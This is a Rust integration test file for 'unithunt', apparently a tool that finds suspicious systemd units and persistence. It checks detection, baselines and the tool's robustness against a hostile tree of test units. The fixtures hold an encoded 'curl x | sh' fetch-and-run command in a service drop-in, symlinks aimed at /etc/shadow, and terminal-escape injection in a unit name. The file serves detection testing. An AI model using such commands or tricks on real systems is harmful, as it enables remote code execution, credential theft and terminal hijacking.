//! `unithunt hunt`, end to end, on a tree the atomic tests are played into and on this host.

use std::process::Command;

fn unithunt(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_unithunt"))
        .args(args)
        .output()
        .expect("binary runs")
}

/// The findings of `hunt -o ndjson`.
fn ndjson(o: &std::process::Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn planted_units_are_found_with_reasons_under_a_root() {
    let root = std::env::temp_dir().join(format!("unithunt-hunt-cli-{}", std::process::id()));
    let r = root.to_str().unwrap();
    for t in ["1", "3", "4"] {
        assert!(unithunt(&["atomic", "run", t, "--root", r])
            .status
            .success());
    }
    let o = unithunt(&[
        "hunt",
        "--root",
        r,
        "-o",
        "ndjson",
        "--min-severity",
        "info",
    ]);
    assert_eq!(o.status.code(), Some(0));
    let findings = ndjson(&o);
    let get = |unit: &str| {
        findings
            .iter()
            .find(|f| f["unit"] == unit)
            .unwrap_or_else(|| panic!("{unit}: {findings:?}"))
    };
    let lookalike = get("syslogd.service");
    // No package database under this root: ownership is unknown and not scored (issue 19,
    // item 6); the name and what it runs decide.
    assert_eq!(lookalike["severity"], "high");
    assert_eq!(lookalike["owner"], "unknown");
    let reasons = lookalike["reasons"].to_string();
    assert!(
        reasons.contains("one character away from syslog"),
        "{reasons}"
    );
    assert_eq!(
        lookalike["exec"][0],
        "ExecStart=/usr/bin/touch /tmp/unithunt-atomic-marker"
    );
    // The generator's output unit is found in /run/systemd/generator, the generator itself too.
    assert_eq!(
        get("unithunt-atomic-gen.service")["fragment"],
        "/run/systemd/generator/unithunt-atomic-gen.service"
    );
    let generator = get("unithunt-atomic-gen");
    assert_eq!(generator["manager"], "generator");
    assert_eq!(generator["severity"], "high");
    let summary = String::from_utf8_lossy(&o.stderr);
    assert!(
        summary.contains("package database: none found"),
        "{summary}"
    );
    let _ = std::fs::remove_dir_all(&root);
    let o = unithunt(&["hunt", "--root", "/nonexistent/unithunt"]);
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn this_host_is_hunted_without_error() {
    let o = unithunt(&["hunt", "-o", "ndjson"]);
    assert_eq!(o.status.code(), Some(0));
    let summary = String::from_utf8_lossy(&o.stderr);
    assert!(
        summary.contains("under / (system and user managers)"),
        "{summary}"
    );
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        let f: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(f["score"].as_u64().unwrap() <= 100);
    }
}

#[test]
fn a_baseline_reports_only_what_is_new_or_changed() {
    let root = std::env::temp_dir().join(format!("unithunt-hunt-base-{}", std::process::id()));
    let r = root.to_str().unwrap();
    let base = root.with_extension("baseline.json");
    let b = base.to_str().unwrap();
    assert!(unithunt(&["atomic", "run", "1", "--root", r])
        .status
        .success());
    let o = unithunt(&["hunt", "--root", r, "--save-baseline", b, "-o", "json"]);
    assert_eq!(o.status.code(), Some(0));
    let all: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(all.as_array().unwrap().len(), 1, "{all}");
    // Nothing changed: nothing to report.
    let o = unithunt(&[
        "hunt",
        "--root",
        r,
        "--baseline",
        b,
        "-o",
        "json",
        "--min-severity",
        "info",
    ]);
    let same: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(same, serde_json::json!([]));
    // A new unit, and one byte appended to the old one.
    assert!(unithunt(&["atomic", "run", "3", "--root", r])
        .status
        .success());
    let unit = root.join("etc/systemd/system/unithunt-atomic-root.service");
    let text = std::fs::read_to_string(&unit).unwrap();
    std::fs::write(&unit, text + "#").unwrap();
    let o = unithunt(&[
        "hunt",
        "--root",
        r,
        "--baseline",
        b,
        "-o",
        "ndjson",
        "--min-severity",
        "info",
    ]);
    let mut got: Vec<(String, String)> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| {
            let f: serde_json::Value = serde_json::from_str(l).unwrap();
            (
                f["unit"].as_str().unwrap().into(),
                f["baseline"].as_str().unwrap().into(),
            )
        })
        .collect();
    got.sort();
    assert_eq!(
        got,
        [
            ("syslogd.service".to_string(), "new".to_string()),
            (
                "unithunt-atomic-root.service".to_string(),
                "changed".to_string()
            )
        ]
    );
    std::fs::write(&base, "{}").unwrap();
    let o = unithunt(&["hunt", "--root", r, "--baseline", b]);
    assert_eq!(o.status.code(), Some(2), "not a baseline");
    let _ = std::fs::remove_dir_all(&root);
    let _ = std::fs::remove_file(&base);
}

/// A hostile tree at full size: everything in it is reported or skipped, nothing is fatal, nothing
/// is read outside the root, and no control character reaches the terminal.
#[test]
fn a_hostile_tree_is_reported_and_skipped_not_fatal() {
    use std::os::unix::fs::symlink;
    let root = std::env::temp_dir().join(format!("unithunt-hunt-hostile-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    let sys = root.join("etc/systemd/system");
    std::fs::create_dir_all(&sys).unwrap();
    let put = |name: &str, bytes: &[u8]| std::fs::write(sys.join(name), bytes).unwrap();
    // A 10 MB unit of one line (over the size limit: not read), a 3 MB line under it (read,
    // refused as systemd refuses lines over 1 MiB) and a 900 kB one (read and judged).
    put("huge.service", &vec![b'A'; 10 << 20]);
    let line = |n: usize| {
        let mut long = b"[Service]\nExecStart=/tmp/x ".to_vec();
        long.extend(std::iter::repeat_n(b'a', n));
        long.push(b'\n');
        long
    };
    put("too-long-line.service", &line(3 << 20));
    put("long-line.service", &line(900 << 10));
    // Binary garbage, invalid UTF-8, NUL bytes.
    put(
        "garbage.service",
        b"\x00\xff\xfe[Serv\x00ice]\nExecStart=\xc3\x28/bin/sh -c 'x'\n",
    );
    // Escapes in a name and in an Exec line.
    put(
        "evil\x1b[31m.service",
        b"[Service]\nExecStart=/bin/sh -c 'printf \x1b]0;owned\x07'\n",
    );
    // Link loops (to itself, a pair), and links climbing out of the root.
    symlink("self.service", sys.join("self.service")).unwrap();
    symlink("pong.service", sys.join("ping.service")).unwrap();
    symlink("ping.service", sys.join("pong.service")).unwrap();
    symlink(
        "../../../../../../../../etc/shadow",
        sys.join("climb.service"),
    )
    .unwrap();
    symlink("/etc/shadow", sys.join("absolute.service")).unwrap();
    // /dev/zero as a unit: the image's /dev/zero, a character device when we may make one.
    std::fs::create_dir_all(root.join("dev")).unwrap();
    symlink("/dev/zero", sys.join("zero.service")).unwrap();
    let zero = std::ffi::CString::new(root.join("dev/zero").to_str().unwrap()).unwrap();
    // SAFETY: a plain mknod(2) call on a path we own; failure (not root) is allowed.
    let device =
        unsafe { libc::mknod(zero.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 5)) } == 0;
    // A FIFO as a unit and as a drop-in (never opened: opening would block).
    let fifo = |p: std::path::PathBuf| {
        let c = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
        // SAFETY: mkfifo(3) on a path we own.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    };
    fifo(sys.join("fifo.service"));
    std::fs::create_dir_all(sys.join("ok.service.d")).unwrap();
    put("ok.service", b"[Service]\nExecStart=/usr/bin/true\n");
    fifo(sys.join("ok.service.d/fifo.conf"));
    // A directory where a unit file should be, and a drop-in directory that loops.
    std::fs::create_dir_all(sys.join("dir.service")).unwrap();
    symlink(".", sys.join("ok.service.d/loop.d")).unwrap();
    // A .wants directory linking to itself and to nothing.
    std::fs::create_dir_all(sys.join("multi-user.target.wants")).unwrap();
    symlink(
        "../multi-user.target.wants",
        sys.join("multi-user.target.wants/x.service"),
    )
    .unwrap();
    symlink(
        "/nowhere.service",
        sys.join("multi-user.target.wants/nowhere.service"),
    )
    .unwrap();
    // Many units: the walk is linear.
    for i in 0..2000 {
        put(
            &format!("many-{i}.service"),
            b"[Service]\nExecStart=/usr/bin/true\n",
        );
    }
    // Unreadable (only when not root: root reads anyway).
    put("secret.service", b"[Service]\nExecStart=/usr/bin/true\n");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            sys.join("secret.service"),
            std::fs::Permissions::from_mode(0o000),
        )
        .unwrap();
    }

    let r = root.to_str().unwrap();
    let o = unithunt(&[
        "hunt",
        "--root",
        r,
        "-o",
        "ndjson",
        "--min-severity",
        "info",
    ]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let findings = ndjson(&o);
    let get = |u: &str| {
        findings
            .iter()
            .find(|f| f["unit"] == u)
            .unwrap_or_else(|| panic!("{u} not reported"))
    };
    let reasons = |u: &str| get(u)["reasons"].to_string();
    assert!(
        reasons("huge.service").contains("over the"),
        "{}",
        reasons("huge.service")
    );
    assert!(get("long-line.service")["exec"][0]
        .as_str()
        .unwrap()
        .starts_with("ExecStart=/tmp/x aaa"));
    assert!(reasons("long-line.service").contains("world-writable directory"));
    assert!(
        reasons("too-long-line.service").contains("systemd refuses"),
        "{}",
        reasons("too-long-line.service")
    );
    assert!(get("garbage.service")["fragment"].as_str().is_some());
    for broken in [
        "self.service",
        "ping.service",
        "pong.service",
        "fifo.service",
    ] {
        let fragment = get(broken)["fragment"].as_str().unwrap().to_string();
        assert!(fragment.contains('('), "{broken}: {fragment}");
    }
    // Out of the root: resolved inside it, where nothing is.
    for out in ["climb.service", "absolute.service"] {
        let fragment = get(out)["fragment"].as_str().unwrap().to_string();
        assert!(fragment.contains("/etc/shadow"), "{out}: {fragment}");
        assert!(!fragment.contains(r), "{out}: {fragment}");
    }
    let zero = get("zero.service")["fragment"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(zero.contains("links to /dev/zero"), "{zero}");
    if device {
        assert!(zero.contains("not a regular file"), "{zero}");
    }
    assert!(
        reasons("ok.service").contains("not a regular file"),
        "{}",
        reasons("ok.service")
    );
    assert_eq!(
        findings
            .iter()
            .filter(|f| f["unit"].as_str().unwrap().starts_with("many-"))
            .count(),
        2000
    );
    // The table escapes what the names and Exec lines carry.
    let o = unithunt(&["hunt", "--root", r, "--min-severity", "info"]);
    assert_eq!(o.status.code(), Some(0));
    assert!(!o.stdout.contains(&0x1b), "a raw ESC reached the terminal");
    assert!(!o.stdout.contains(&0x07), "a raw BEL reached the terminal");
    assert!(String::from_utf8_lossy(&o.stdout).contains("evil"));
    let _ = std::fs::remove_dir_all(&root);
}

/// Issue 19, item 4: a root without /etc/passwd (as `atomic run 2 --root` makes) still has its
/// user units hunted, from /root and /home, and the summary says where accounts came from.
#[test]
fn user_units_are_hunted_without_etc_passwd_and_the_source_is_said() {
    let root = std::env::temp_dir().join(format!("unithunt-hunt-nopasswd-{}", std::process::id()));
    let r = root.to_str().unwrap();
    assert!(unithunt(&["atomic", "run", "2", "--root", r])
        .status
        .success());
    assert!(!root.join("etc/passwd").exists());
    let o = unithunt(&[
        "hunt",
        "--root",
        r,
        "-o",
        "ndjson",
        "--min-severity",
        "info",
    ]);
    assert_eq!(o.status.code(), Some(0));
    let findings = ndjson(&o);
    let f = findings
        .iter()
        .find(|f| f["unit"] == "unithunt-atomic-user.service")
        .unwrap_or_else(|| panic!("{findings:?}"));
    assert_eq!(f["manager"], "user unithunt-atomic");
    let summary = String::from_utf8_lossy(&o.stderr);
    assert!(
        summary.contains("accounts: no /etc/passwd: /root and the directories under /home"),
        "{summary}"
    );
    let _ = std::fs::remove_dir_all(&root);
}

/// Issue 19, item 5: drop-ins for a unit that is not there (`ssh.service.d/override.conf` running
/// `base64 -d | sh`, no `ssh.service`) are a finding, judged on their content; type-wide,
/// dash-prefix and template drop-in directories are not units of their own.
#[test]
fn drop_ins_for_an_absent_unit_are_judged_on_their_content() {
    let root = std::env::temp_dir().join(format!("unithunt-hunt-orphan-{}", std::process::id()));
    let etc = root.join("etc/systemd/system");
    for d in [
        "ssh.service.d",
        "service.d",
        "foo-.service.d",
        "bar@.service.d",
    ] {
        std::fs::create_dir_all(etc.join(d)).unwrap();
        std::fs::write(etc.join(d).join("x.conf"), "[Service]\nEnvironment=A=1\n").unwrap();
    }
    std::fs::write(
        etc.join("ssh.service.d/override.conf"),
        "[Service]\nExecStartPre=/bin/sh -c \"echo Y3VybCB4IHwgc2g= | base64 -d | sh\"\n",
    )
    .unwrap();
    let r = root.to_str().unwrap();
    let o = unithunt(&[
        "hunt",
        "--root",
        r,
        "-o",
        "ndjson",
        "--min-severity",
        "info",
    ]);
    assert_eq!(o.status.code(), Some(0));
    let findings = ndjson(&o);
    assert_eq!(findings.len(), 1, "{findings:?}");
    let f = &findings[0];
    assert_eq!(f["unit"], "ssh.service");
    assert_eq!(f["fragment"], "(no unit file: drop-ins only)");
    assert!(
        matches!(f["severity"].as_str(), Some("high" | "critical")),
        "{f}"
    );
    let reasons = f["reasons"].to_string();
    assert!(
        reasons.contains("which no unit directory holds"),
        "{reasons}"
    );
    assert!(reasons.contains("encoded blob"), "{reasons}");
    let _ = std::fs::remove_dir_all(&root);
}

/// Issue 19, item 7: `atomic run N --root` leaves what `systemctl enable` would (the enablement
/// link), and claims only what is there.
#[test]
fn atomic_runs_under_a_root_leave_what_they_say() {
    let root = std::env::temp_dir().join(format!("unithunt-atomic-says-{}", std::process::id()));
    let r = root.to_str().unwrap();
    for t in ["1", "3"] {
        let o = unithunt(&["atomic", "run", t, "--root", r]);
        assert!(o.status.success());
        let out = String::from_utf8_lossy(&o.stdout);
        let listed = out
            .lines()
            .find_map(|l| {
                l.split_once("(left in place for hunting): ")
                    .map(|(_, p)| p)
            })
            .unwrap_or_else(|| panic!("{out}"));
        assert!(listed.contains("multi-user.target.wants"), "{listed}");
        for p in listed.split(", ") {
            let at = root.join(p.trim_start_matches('/'));
            assert!(
                std::fs::symlink_metadata(&at).is_ok(),
                "{p} claimed, not there"
            );
        }
    }
    let o = unithunt(&[
        "hunt",
        "--root",
        r,
        "-o",
        "ndjson",
        "--min-severity",
        "info",
    ]);
    let enabled = ndjson(&o)
        .into_iter()
        .filter(|f| f["wanted_by"] == serde_json::json!(["multi-user.target"]))
        .count();
    assert_eq!(enabled, 2);
    let _ = std::fs::remove_dir_all(&root);
}
